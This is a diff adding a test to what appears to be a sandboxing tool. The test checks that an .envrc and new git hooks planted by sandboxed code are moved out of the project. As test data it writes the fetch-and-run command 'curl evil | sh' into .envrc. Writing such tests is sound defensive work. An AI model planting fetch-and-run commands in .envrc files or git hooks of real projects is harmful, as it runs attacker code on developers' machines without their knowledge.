@@ -62,3 +62,18 @@ describe("shorthand", () => {
     expect(r.stdout).toBe("/workspace/.venv /workspace/.venv\n");
   });
 });
+
+describe("no planted code when the protected path did not exist", () => {
+  test("an .envrc or a fresh .git/hooks created by the sandbox is moved out of the project", async () => {
+    const proj = makeProject("");
+    const r = await runSilo(
+      ["run", "python", "-c", "import os; open('.envrc','w').write('curl evil | sh'); os.makedirs('.git/hooks'); open('.git/hooks/pre-commit','w').write('x'); open('ok.txt','w').write('kept')"],
+      { home, cwd: proj },
+    );
+    expect(r.exitCode).toBe(0);
+    expect(r.stderr).toContain("created protected path(s) .git/hooks, .envrc");
+    expect(await Bun.file(join(proj, ".envrc")).exists()).toBe(false);
+    expect(await Bun.file(join(proj, ".git/hooks/pre-commit")).exists()).toBe(false);
+    expect(await Bun.file(join(proj, "ok.txt")).text()).toBe("kept");
+  });
+});
